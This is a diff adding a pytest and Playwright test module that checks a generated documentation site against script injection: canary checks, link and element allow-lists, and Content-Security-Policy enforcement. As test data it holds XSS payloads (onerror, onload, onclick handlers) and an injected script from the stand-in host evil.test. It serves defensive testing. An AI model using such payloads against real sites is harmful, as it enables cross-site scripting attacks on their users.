@@ -1,0 +1,104 @@
+"""Whatever stands in a document: a browser shows words, and does nothing else."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.sync_api import Browser
+
+from tests.hostile.conftest import Hostile, Seen
+from tests.site.server import served
+
+pytestmark = [pytest.mark.model, pytest.mark.browser, pytest.mark.slow]
+
+LINKS = re.compile(r"https?://|mailto:desk@post\.test\?|#|\.{1,2}(/|$)|[\w.@-]+(/|$|\?|#)")
+"""Where a link may lead: the web, the desk's mail, this page, a file of the site."""
+ALSO = {"button popovertarget", "div popover", "button data-clipboard-target", "button data-md-type"}
+"""Repaired words, and the theme's button beside code, which only some pages have."""
+RUN = "='window.canary=1'"
+BREAK = f"<img src=x onerror{RUN}><svg onload{RUN}></svg><a id=x onclick{RUN}>x</a>"
+
+
+def test_nothing_ran_and_nothing_was_asked_for(seen: Seen) -> None:
+    assert len(seen.pages) > 300
+    assert seen.wrong == []
+    assert {path: it["canary"] for path, it in seen.pages.items() if it["canary"]} == {}
+    assert {path: it["blocked"] for path, it in seen.pages.items() if it["blocked"]} == {}
+
+
+def test_every_element_and_attribute_is_one_of_our_templates(seen: Seen, benign: set[str]) -> None:
+    """An element that no page of harmless documents has would have come from a document."""
+    kinds = {kind for it in seen.pages.values() for kind in it["kinds"]}
+    assert kinds - benign - ALSO == set()
+    running = {kind for kind in kinds if re.search(r" (on\w+|style|srcdoc|formaction)$", kind)}
+    assert running <= {"button style", "div style"}, "where the theme's script puts its own boxes"
+
+
+def test_every_link_leads_to_the_web_to_the_desk_or_into_the_site(seen: Seen) -> None:
+    links = {link for it in seen.pages.values() for link in it["links"]}
+    assert len(links) > 1000
+    assert sorted(link for link in links if not LINKS.match(link)) == []
+
+
+def test_no_script_stands_in_a_page_but_those_of_the_theme(seen: Seen) -> None:
+    scripts = {re.sub(r'new URL\("[./]*"', "new URL(", text) for it in seen.pages.values() for text in it["scripts"]}
+    assert len(scripts) <= 4
+    assert not any("alert" in text or "evil" in text for text in scripts)
+
+
+def test_every_page_of_ours_is_under_a_policy_without_inline_scripts(hostile: Hostile) -> None:
+    for file in hostile.site.rglob("*.html"):
+        if file.name == "404.html":
+            continue
+        html = file.read_text(encoding="utf-8")
+        (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
+        assert "unsafe" not in policy
+        assert "https:" not in policy
+        assert html.index("http-equiv") < html.index("<script")
+
+
+@pytest.mark.parametrize("over", ["folder", "server"])
+def test_the_policy_stops_what_would_get_through_and_nothing_of_the_theme(
+    hostile: Hostile, browser: Browser, over: str
+) -> None:
+    """Markup is put into a page as if our escaping had failed; the switch of light and dark goes on working."""
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        asked: list[str] = []
+        page.on("requestfailed", lambda it: asked.append(f"{it.url} {it.failure}"))
+        with served(hostile.site) as root:
+            page.goto((root if over == "server" else hostile.site.as_uri() + "/") + "briefings/plain/index.html")
+            page.evaluate("html => document.querySelector('article').insertAdjacentHTML('beforeend', html)", BREAK)
+            page.locator("#x").click()
+            page.evaluate("() => { const s = document.createElement('script'); s.text = 'window.canary=1';"
+                          "document.body.append(s); const r = document.createElement('script');"
+                          "r.src = 'https://evil.test/x.js'; document.body.append(r) }")  # fmt: skip
+            page.wait_for_timeout(300)
+            assert page.evaluate("window.canary || 0") == 0
+            assert asked[-1:] == ["https://evil.test/x.js csp"]
+            before = page.evaluate("document.body.dataset.mdColorScheme")
+            page.locator("label.md-header__button[title=dark]").click()
+            assert page.evaluate("document.body.dataset.mdColorScheme") != before
+    finally:
+        context.close()
+
+
+@pytest.fixture(scope="module")
+def benign(site: object, browser: Browser, seen: Seen) -> set[str]:
+    """Elements and attributes of the shipped site, and those of parts of our templates that it does not show."""
+    from pathlib import Path
+
+    from tests.hostile.conftest import LOOK, WATCH
+
+    context = browser.new_context()
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    found: set[str] = set()
+    for file in sorted(Path(str(site)).rglob("*.html")):
+        if file.name != "404.html":
+            page.goto(file.as_uri())
+            found |= set(page.evaluate(LOOK)["kinds"])
+    context.close()
+    return found
